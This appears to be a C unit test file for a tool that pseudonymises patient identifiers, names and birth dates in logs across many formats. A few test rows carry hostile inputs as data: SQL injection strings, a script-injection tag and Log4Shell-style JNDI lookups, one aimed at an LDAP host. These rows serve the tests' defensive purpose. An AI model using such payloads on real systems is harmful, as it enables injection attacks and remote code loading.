/* Patients that labels announce. */
#include "tests/unit/patient_rows.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static void
test_numbers(void **state)
{
	static const struct row rows[] = {
	    {"patient=4711", "patient={4711}"},
	    {"opened patient 4711 for lea", "opened patient {4711} for lea"},
	    {"patient #4711, done", "patient #{4711}, done"},
	    {"patient_id=AB-12.", "patient_id={AB-12}."},
	    {"PATIENTID: 4711", "PATIENTID: {4711}"},
	    {"Patient ID 4711 read", "Patient ID {4711} read"},
	    {"Patient Id Number: 4711", "Patient Id Number: {4711}"},
	    {"currentPatientId=>4711;", "currentPatientId=>{4711};"},
	    {"Patienten-Nr.: 4711", "Patienten-Nr.: {4711}"},
	    {"Patientennummer=4711", "Patientennummer={4711}"},
	    {"num\xc3\xa9ro: 1, patient num\xc3\xa9ro: 4711",
		"num\xc3\xa9ro: 1, patient num\xc3\xa9ro: {4711}"},
	    {"PatNr=4711 pat_id='4712'", "PatNr={4711} pat_id='{4712}'"},
	    {"MRN 004711, mrn=4712", "MRN {004711}, mrn={4712}"},
	    {"?patientId=4711&x=1", "?patientId={4711}&x=1"},
	    {"where patient_id = '4711'", "where patient_id = '{4711}'"},
	    {"patient.identifier=urn:oid:1.2|4711 x",
		"patient.identifier={4711^1.2} x"},
	    {"PatientID=4711^^^A&1.2&ISO x", "PatientID={4711^1.2} x"},
	    {"patient=Patient/4711", "patient=Patient/{4711}"},
	    {"GET /fhir/Patient/a-47 HTTP", "GET /fhir/Patient/{a-47} HTTP"},
	    {"GET /api/patients/4711/x?y=1", "GET /api/patients/{4711}/x?y=1"},
	    {"<PatientID>4711</PatientID>", "<PatientID>{4711}</PatientID>"},
	    {"<a:mrn>4711</a:mrn>", "<a:mrn>{4711}</a:mrn>"},
	    {"<p patientId=\"4711\" b=\"1\"/>", "<p patientId=\"{4711}\" b=\"1\"/>"},
	    {"(0010,0020) LO [4711] # 4", "(0010,0020) LO [{4711}] # 4"},
	    {"(0010,0020)=4711", "(0010,0020)={4711}"},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

static void
test_json(void **state)
{
	static const struct row rows[] = {
	    {"{{\"patientId\":4711,\"a\":1}", "{{\"patientId\":\"{4711}\",\"a\":1}"},
	    {"{{\"patientId\" : \"4711\"}", "{{\"patientId\" : \"{4711}\"}"},
	    {"\"m\":\"{{\\\"patientId\\\":4711}\"",
		"\"m\":\"{{\\\"patientId\\\":\\\"{4711}\\\"}\""},
	    {"{{\"patientIds\":[\"4711\",4712],\"n\":3}",
		"{{\"patientIds\":[\"{4711}\",\"{4712}\"],\"n\":3}"},
	    {"{{\"patient\":{{\"id\":\"4711\",\"type\":\"a\",\"name\":[{{\"family\":"
	     "\"M\"}],\"age\":4},\"ip\":\"192.0.2.7\"}",
		"{{\"patient\":{{\"id\":\"{4711}\",\"type\":\"a\",\"name\":[{{"
		"\"family\":\"[...]\"}],\"age\":\"[...]\"},\"ip\":\"192.0.2.7\"}"},
	    {"{{\"patient\":{{\"mrn\":\"4711\",\"name\":\"M",
		"{{\"patient\":{{\"mrn\":\"{4711}\",\"name\":\"[...]"},
	    {"{{\"patient\":{{\"reference\":\"Patient/4711\"}}",
		"{{\"patient\":{{\"reference\":\"Patient/{4711}\"}}"},
	    {"\"what\":{{\"reference\":\"Patient/4711\", \"display\": \"M J\"},",
		"\"what\":{{\"reference\":\"Patient/{4711}\", \"display\": "
		"\"[...]\"},"},
	    {"{{\"display\":\"M J\",\"reference\":\"http://h/Patient/4711\"}",
		"{{\"display\":\"[...]\",\"reference\":\"http://h/Patient/{4711}\"}"},
	    {"{{\"display\":\"M J\",\"type\":\"Patient\",\"reference\":"
	     "\"Patient/4711\"}",
		"{{\"display\":\"[...]\",\"type\":\"Patient\",\"reference\":"
		"\"Patient/{4711}\"}"},
	    {"{{\"display\":\"on\",\"a\":\"b\",\"reference\":\"Patient/4711\"}",
		"{{\"display\":\"on\",\"a\":\"b\",\"reference\":\"Patient/{4711}\"}"},
	    {"{{\"patient\":\"M, Jean (4711)\",\"b\":1}",
		"{{\"patient\":\"{M, Jean (4711)}\",\"b\":1}"},
	    {"{{\"patient\":null,\"patients\":12,\"patientCount\":2}", NULL},
	    /* FHIR: a resource is a payload. */
	    {"x {{\"resourceType\":\"Patient\",\"id\":\"4711\",\"birthDate\":\"1\"}",
		"x {{\"resourceType\":\"Patient\",\"id\":\"{4711}\"}"},
	    {"{{\"a\":{{\"resourceType\":\"Observation\",\"subject\":{{\"reference\":"
	     "\"Patient/4711\"},\"note\":\"x\"},\"b\":1}",
		"{{\"a\":{{\"resourceType\":\"Observation\"},\"b\":1}"},
	    {"{{\"resourceType\":\"Patient\",\"user\":\"lea\",\"ip\":\"192.0.2.7\"}",
		NULL},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* However it is written, the same patient has the same pseudonym. */
static void
test_same_number(void **state)
{
	static const struct row rows[] = {
	    {"patientId=\" 4711 \"", "patientId=\" {4711} \""},
	    {"(0010,0020) LO [4711 ] # 4", "(0010,0020) LO [{4711} ] # 4"},
	    {"Patient ID: #4711", "Patient ID: #{4711}"},
	    {"a cs1=4711  cs1Label=PatientID", "a cs1={4711}  cs1Label=PatientID"},
	    {"patient=http://h.example/fhir/Patient/4711/_history/3",
		"patient=http://h.example/fhir/Patient/{4711}/_history/3"},
	    {"{{\"patient\":{{\"reference\":\"http://h.example/Patient/4711\"}}",
		"{{\"patient\":{{\"reference\":\"http://h.example/Patient/{4711}\"}}"},
	    {"<PatientID>4711^^^A&amp;1.2&amp;ISO^PI</PatientID>",
		"<PatientID>{4711^1.2}</PatientID>"},
	    {"?patientId=4711%5E%5E%5EA%261.2%26ISO%5EPI&x=1",
		"?patientId={4711^1.2}&x=1"},
	    {"/patients/4711%5E%5E%5EA%261.2%26ISO/studies",
		"/patients/{4711^1.2}/studies"},
	    {"patient:identifier=urn%3Aoid%3A1.2%7C4711&x=1",
		"patient:identifier={4711^1.2}&x=1"},
	    {"?patientId=4711^^^A&page=2", "?patientId={4711^A}&page=2"},
	    {"GET /patients/4711|200|12", "GET /patients/{4711}|200|12"},
	    {"Patient/4711&_count=5", "Patient/{4711}&_count=5"},
	    {"patientId=1950071712324^^^CNS&1.3&ISO", "patientId={1950071712324}"},
	    {"{{\"patient\":{{\"identifier\":[{{\"system\":\"urn:oid:1.2\","
	     "\"value\":\"4711\"},{{\"value\":\"4712\"}]}}",
		"{{\"patient\":{{\"identifier\":[{{\"system\":\"urn:oid:1.2\","
		"\"value\":\"{4711^1.2}\"},{{\"value\":\"{4712}\"}]}}"},
	    /* Quotes within quotes end nothing. */
	    {"\"m\":\"{{\\\"patient\\\":{{\\\"name\\\":\\\"A \\\\\\\"B\\\\\\\""
	     "\\\",\\\"id\\\":4711}}\"",
		"\"m\":\"{{\\\"patient\\\":{{\\\"name\\\":\\\"[...]\\\","
		"\\\"id\\\":\\\"{4711}\\\"}}\""},
	    /* Nor may a custom field hide an attack. */
	    {"a cs1=1' OR '1'='1 cs1Label=PatientID b=1",
		"a cs1={1}' OR '1'='1 cs1Label=PatientID b=1"},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* Between the label and the value. */
static void
test_signs(void **state)
{
	static const struct row rows[] = {
	    {"patient_ids=4711,4712;4713", "patient_ids={4711},{4712};{4713}"},
	    {"patientIds=[4711, 4712]", "patientIds=[{4711}, {4712}]"},
	    {"WHERE patient_id IN (4711,4712) AND x=3",
		"WHERE patient_id IN ({4711},{4712}) AND x=3"},
	    {"patient_id in ('4711', '4712')",
		"patient_id in ('{4711}', '{4712}')"},
	    {"patient_id BETWEEN 4711 AND 4799",
		"patient_id BETWEEN {4711} AND {4799}"},
	    {"patient_id <> 4711 or patient_id >= '4712'",
		"patient_id <> {4711} or patient_id >= '{4712}'"},
	    {"`patient_id`='4711' x.patient_id = N'4711'",
		"`patient_id`='{4711}' x.patient_id = N'{4711}'"},
	    {"patient_name LIKE '%MEYER%'", "patient_name LIKE '%[...]%'"},
	    {"patient_id = CAST('4711' AS int)",
		"patient_id = CAST('{4711}' AS int)"},
	    {"Key (patient_id)=(4711) already", "Key (patient_id)=({4711}) already"},
	    {"patientId%20eq%20%274711%27", "patientId%20eq%20%27{4711}%27"},
	    {"?patient%5Bid%5D=4711&patient[id]=4712&patient%5Fid=4713",
		"?patient%5Bid%5D={4711}&patient[id]={4712}&patient%5Fid={4713}"},
	    {"?patientIds[]=4711&a=1", "?patientIds[]={4711}&a=1"},
	    {"patient['id']=4711 patient->id=4712",
		"patient['id']='{4711}' patient->id={4712}"},
	    {"patientId|4711 Patient ID [4711] getPatient(4711)",
		"patientId|{4711} Patient ID [{4711}] getPatient({4711})"},
	    {"patient_id=Optional[4711]", "patient_id=Optional[{4711}]"},
	    {"Patient ID:#012  4711", "Patient ID:#012  {4711}"},
	    {"&quot;patientId&quot;:&quot;4711&quot;",
		"&quot;patientId&quot;:&quot;{4711}&quot;"},
	    {"%7B%22patientId%22%3A%224711%22%7D",
		"%7B%22patientId%22%3A%22{4711}%22%7D"},
	    {"Pat.-Nr.: 4711, Pat. ID 4712", "Pat.-Nr.: {4711}, Pat. ID {4712}"},
	    {"Patient (ID 4711) opened", "Patient (ID {4711}) opened"},
	    {"patient DOE^JANE opened", "patient [...] opened"},
	    {"patient dob 17.07.1950 x", "patient dob [...] x"},
	    {"x^patientId=4711^usrName=lea", "x^patientId={4711}^usrName=lea"},
	    {"/Patient?family=Meyer&birthdate=1950-07-17&_count=5 H",
		"/Patient?family=[...]&birthdate=[...]&_count=5 H"},
	    {"/patients/search?q=Meyer+J&page=2",
		"/patients/search?q=[...]&page=2"},
	    {"a cn1=4711 cn1Label=Patient ID", "a cn1={4711} cn1Label=Patient ID"},
	    {"a cs1=17.07.1950 cs1Label=Date of Birth",
		"a cs1=[...] cs1Label=Date of Birth"},
	    /* Words of a sentence, and a value that is the word. */
	    {"patient_id is required, patient id in query", NULL},
	    {"role=patient id=5", NULL},
	    {"patient (12 records)", NULL},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* What holds more than one value. */
static void
test_groups(void **state)
{
	static const struct row rows[] = {
	    {"[patient@1 id=\"4711\" name=\"M\"][x@1 a=\"b\"]",
		"[patient@1 id=\"{4711}\" name=\"[...]\"][x@1 a=\"b\"]"},
	    {"lea@patient@10.0.0.1 patient@1 12", NULL},
	    {"Patient[id=4711, name=Meyer] x=1", "Patient[id={4711}, name=[...]] x=1"},
	    {"PatientDTO(id=4711, lastName='M', a=(1)) b",
		"PatientDTO(id={4711}, lastName='[...]', a=([...])) b"},
	    {"{{\"patientRecord\":{{\"id\":\"4711\",\"city\":\"T\"},\"b\":1}",
		"{{\"patientRecord\":{{\"id\":\"{4711}\",\"city\":\"[...]\"},"
		"\"b\":1}"},
	    {"{{\"patients\":{{\"4711\":{{\"name\":\"M\"}}}",
		"{{\"patients\":{{\"{4711}\":{{\"name\":\"[...]\"}}}"},
	    {"{{\"name\":\"patientId\",\"value\":\"4711\",\"b\":\"c\"}",
		"{{\"name\":\"patientId\",\"value\":\"{4711}\",\"b\":\"c\"}"},
	    {"{{\"type\":\"Patient\",\"id\":\"4711\",\"user\":\"lea\"}",
		"{{\"type\":\"Patient\",\"id\":\"{4711}\",\"user\":\"lea\"}"},
	    {"[\"--patient-id\",\"4711\"]", "[\"--patient-id\",\"{4711}\"]"},
	    {"<f name=\"patientId\">4711</f>", "<f name=\"patientId\">{4711}</f>"},
	    {"<p name=\"patient_id\" value=\"4711\"/>",
		"<p name=\"patient_id\" value=\"{4711}\"/>"},
	    {"<PatientID type=\"x\">4711</PatientID>",
		"<PatientID type=\"x\">{4711}</PatientID>"},
	    {"<PatientID><![CDATA[4711]]></PatientID>",
		"<PatientID><![CDATA[{4711}]]></PatientID>"},
	    {"<patient><id>4711</id><name>M</name></patient><u>lea</u>",
		"<patient><id>{4711}</id><name>[...]</name></patient><u>lea</u>"},
	    {"<patient id=\"4711\" name=\"M\"/><u>lea</u>",
		"<patient id=\"{4711}\" name=\"[...]\"/><u>lea</u>"},
	    {"<role>patient</role><user>lea</user>", NULL},
	    /* Whoever writes it hides nothing. */
	    {"Patient{a=\"${{jndi:x}\", b='1\" OR 1=1'}", NULL},
	    {"<patient a=\"<script>x()\">${{jndi:a}</patient>", NULL},
	    {"{{\"field\":\"patientId\",\"error\":\"x\",\"user\":\"lea\"}", NULL},
	    {"{{\"type\":\"patient\",\"count\":12,\"user\":\"lea\"}", NULL},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* Dates of birth and numbers whose label does not say patient. */
static void
test_other_labels(void **state)
{
	static const struct row rows[] = {
	    {"DOB=19500717 dob: 17.07.1950, x", "DOB=[...] dob: [...], x"},
	    {"\"birthDate\":\"1950-07-17\"", "\"birthDate\":\"[...]\""},
	    {"Date of Birth: 07/17/1950;", "Date of Birth: [...];"},
	    {"geb. 17.07.1950, geboren am 17.7.1950",
		"geb. [...], geboren am [...]"},
	    {"GebDatum=17.07.1950", "GebDatum=[...]"},
	    {"Patient: Meyer, Jean geb. 17.07.1950 x",
		"Patient: [...] geb. [...] x"},
	    {"Patient: Meyer Jean n\xc3\xa9 le 17/07/1950",
		"Patient: [...] n\xc3\xa9 le [...]"},
	    {"M. n\xc3\xa9 le 17/07/1950, n\xc3\xa9" "e le 17 juillet 1950",
		"M. n\xc3\xa9 le [...], n\xc3\xa9" "e le [...]"},
	    {"date_naissance=1950-07-17 x", "date_naissance=[...] x"},
	    {"Versicherten-Nr.: 4711, KVNR=4712", "Versicherten-Nr.: {4711}, KVNR={4712}"},
	    {"Sozialversicherungsnummer 4711",
		"Sozialversicherungsnummer {4711}"},
	    {"num\xc3\xa9ro de s\xc3\xa9" "curit\xc3\xa9 sociale: 4711",
		"num\xc3\xa9ro de s\xc3\xa9" "curit\xc3\xa9 sociale: {4711}"},
	    {"num\xc3\xa9ro national: 4711, nationalId=4712",
		"num\xc3\xa9ro national: {4711}, nationalId={4712}"},
	    {"N\xc2\xb0 dossier 4711", "N\xc2\xb0 dossier {4711}"},
	    {"SSN: 123-45-6789, ssn=123456789", "SSN: {123456789}, ssn={123456789}"},
	    {"num\xc3\xa9ro IPP 8847123, MPI ID: 8847123, EMPI=8847123",
		"num\xc3\xa9ro IPP {8847123}, MPI ID: {8847123}, EMPI={8847123}"},
	    {"NISS: 50.07.17-123-24 \"nip\":8847123}",
		"NISS: {50071712324} \"nip\":\"{8847123}\"}"},
	    {"NIR 1 50 07 57 006 084 91 x", "NIR {150075700608491} x"},
	    {"IPP: 8001234567 12 rows", "IPP: {8001234567} 12 rows"},
	    {"MPI rank 12, ipp://h:631/ IPP/2.0 ssn=12 NIR 12 mpi 4.1.2", NULL},
	    {"Matricule 1950 0717 123 24 x", "Matricule {1950071712324} x"},
	    {"matricule: 19500717-12324", "matricule: {1950071712324}"},
	    {"patient_id=1950 0717 12324", "patient_id={1950071712324}"},
	    /* Of staff; of nobody. */
	    {"matricule 1234, matricules=12", NULL},
	    {"birth_date column dropped, dob is required", NULL},
	    {"adobe=12 reborn=1950 geb. Kosten 12", NULL},
	    {"Fall 12: retry, fallback=4711", NULL},
	    {"dossier=/var/log, dossier 12", NULL},
	    {"encountered 12, national 4711, internationalId", NULL},
	};
	static const struct str encounter =
	    STR_INIT("Fallnummer: 4711, \"encounterId\":4711, Aufnahme-Nr. 4711, "
		     "num_sejour=4711, N\xc2\xb0 s\xc3\xa9jour 4711, "
		     "/encounters/4711/x Encounter/4711, /encounter/list");
	struct pseudonym_key key = test_key();
	struct buf out;
	char text[PSEUDONYM_TEXT];
	struct str want = pseudonym_make(
	    &key, PSEUDONYM_ENCOUNTER, STR("4711"), text);
	size_t found = 0, at = 0, i;

	(void)state;
	expect_hidden(rows, COUNT(rows));
	buf_init(&out, SIZE_MAX);
	assert_int_equal(patient_hide(&key, encounter, &out), 7);
	while ((i = str_find(str_skip(buf_str(&out), at), want)) != SIZE_MAX) {
		found++;
		at += i + 1;
	}
	assert_int_equal(found, 7);
	buf_fini(&out);
	assert_int_equal(patient_field(STR("json.encounterId")),
	    PATIENT_ENCOUNTER);
	assert_int_equal(patient_field(STR("json.dob")), PATIENT_BIRTH);
	assert_int_equal(patient_field(STR("sd.ipp")), PATIENT_LONG);
}

static void
test_dates(void **state)
{
	static const struct row rows[] = {
	    {"DOB: July 17, 1950;", "DOB: [...];"},
	    {"DOB 17-JUL-1950 x", "DOB [...] x"},
	    {"dob: 1950 July 17", "dob: [...]"},
	    {"geb. 17. 07. 1950, geb. 17.7.50 x", "geb. [...], geb. [...] x"},
	    {"n\xc3\xa9" "e le 17 07 1950 x", "n\xc3\xa9" "e le [...] x"},
	    {"date de naissance : le 1er ao\xc3\xbbt 1950 x",
		"date de naissance : [...] x"},
	    {"birthdate=Mon Jul 17 00:00:00 CET 1950 x", "birthdate=[...] x"},
	    {"\"dateOfBirth\":\"1950-07-17T00:00:00.000+01:00\"",
		"\"dateOfBirth\":\"[...]\""},
	    {"{{\"birthDate\":{{\"$date\":\"1950-07-17\"},\"u\":\"lea\"}",
		"{{\"birthDate\":{{\"$date\":\"[...]\"},\"u\":\"lea\"}"},
	    {"{{\"birthDate\":[1950,7,17],\"u\":1}",
		"{{\"birthDate\":[\"[...]\",\"[...]\",\"[...]\"],\"u\":1}"},
	    {"{{\"birthDate\":-613872000000}", "{{\"birthDate\":\"[...]\"}"},
	    {"date of birth is 17.07.1950.", "date of birth is [...]."},
	    {"Geburtsdatum des Patienten: 17.07.1950",
		"Geburtsdatum des Patienten: [...]"},
	    {"<birthTime value=\"19500717\"/>", "<birthTime value=\"[...]\"/>"},
	    {"?birthdate=17%2F07%2F1950&a=1", "?birthdate=[...]&a=1"},
	    /* Of files; of nobody. */
	    {"birthtime=1732443540 Birth: 2026-11-24 09:59:00.000000000 +0100",
		NULL},
	    {"birthday 4711, happy birthday 2026", NULL},
	    {"Installed: birthday-2024.11-24, dob 1.2.3", NULL},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
	assert_int_equal(patient_field(STR("x.birthtime")), PATIENT_BIRTH_TIME);
}

static void
test_names(void **state)
{
	static const struct row rows[] = {
	    {"patientName=Jean Meyer user=lea", "patientName=[...] user=lea"},
	    {"patient_name=\"Meyer, Jean\" x", "patient_name=\"[...]\" x"},
	    {"Patient name: Meyer, Jean, User: lea",
		"Patient name: [...], User: lea"},
	    {"Patientenname: M\xc3\xbcller | x", "Patientenname: [...] | x"},
	    {"patient: Meyer, Jean (MRN 4711)", "patient: [...] (MRN {4711})"},
	    {"patient=Jean Meyer", "patient=[...]"},
	    {"PatientName=MEYER^JEAN^^", "PatientName=[...]"},
	    {"patientBirthDate=1980-01-01,x", "patientBirthDate=[...],x"},
	    {"patient.dob: 01/02/1980;", "patient.dob: [...];"},
	    {"?patientName=Jean%20M%C3%BCller&a=1", "?patientName=[...]&a=1"},
	    {"(0010,0010) PN [M^J] # 1", "(0010,0010) PN [[...]] # 1"},
	    {"<patientName>Jean Meyer</patientName>",
		"<patientName>[...]</patientName>"},
	    {"a cs1Label=PatientID cs1=4711 b=1",
		"a cs1Label=PatientID cs1={4711} b=1"},
	    {"a cs2=Jean Meyer cs2Label=Patient Name b=1",
		"a cs2=[...] cs2Label=Patient Name b=1"},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* No label, or none that tells whose; and no value that hides an attack. */
static void
test_others(void **state)
{
	static const struct row rows[] = {
	    {"patient-portal on patient-db01: started", NULL},
	    {"patients=12, patientCount=4, patient_type=in", NULL},
	    {"error opening patient: access denied", NULL},
	    {"GET /patients/v1/ping, /opt/patient/lib64/x.so", NULL},
	    {"compat=1 dispatch=2 path=/a spatial id=3", NULL},
	    {"(0010,0040) CS [M]", NULL},
	    {"patientId=, patientId=null, patientId=-, patientId=0", NULL},
	    {"patientId={{id} patientName=%s", NULL},
	    {"patientIdType=MR patient_id_type=MR", NULL},
	    {"?patientId=1%27%20OR%201=1", "?patientId={1}%27%20OR%201=1"},
	    {"\"patientId\":\"1' OR '1'='1\"", "\"patientId\":\"{1}' OR '1'='1\""},
	    {"patientName=<script>alert(1)</script>", NULL},
	    {"patientId=${{jndi:ldap://192.0.2.7/a}", NULL},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

/* Things that are called patient, and numbers that are nobody's. */
static void
test_things(void **state)
{
	static const struct row rows[] = {
	    {"session opened for user patient(uid=1004) by (uid=0)", NULL},
	    {"database patient 4711 rows, queue patient: 12 messages", NULL},
	    {"please be patient: 12 s, lxc patient 4711", NULL},
	    {"http://patient:8080/health jdbc:x://patient:5432/his", NULL},
	    {"image registry.example/his/patient:20241124 pulled", NULL},
	    {"x/patient:4.7.11, helm upgrade patient 12.4.5", NULL},
	    {"patient 192.0.2.7 up, /var/lib/patient/4.7.11", NULL},
	    {"C:\\Program Files\\Patient 2024\\bin\\app.exe", NULL},
	    {"/opt/patient/2024.11/bin /home/patient/20241124.log", NULL},
	    {"{{\"name\":\"patient\",\"id\":4711,\"uid\":\"a-1\"}", NULL},
	    {"{{\"role\":\"patient\",\"id\":\"session-1\"}", NULL},
	    {"urn:mrn:iala:4711", NULL},
	    /* But: */
	    {"{{\"name\":\"patient\",\"value\":\"4711\"}",
		"{{\"name\":\"patient\",\"value\":\"{4711}\"}"},
	    {"GET /patients/4711.json HTTP", "GET /patients/{4711}.json HTTP"},
	    {"Patient/1.2.3 patient:4711", "Patient/{1.2.3} patient:{4711}"},
	    {"patient 17.07.1950", "patient [...]"},
	};

	(void)state;
	expect_hidden(rows, COUNT(rows));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_numbers),
	    cmocka_unit_test(test_json),
	    cmocka_unit_test(test_same_number),
	    cmocka_unit_test(test_signs),
	    cmocka_unit_test(test_groups),
	    cmocka_unit_test(test_other_labels),
	    cmocka_unit_test(test_dates),
	    cmocka_unit_test(test_names),
	    cmocka_unit_test(test_others),
	    cmocka_unit_test(test_things),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
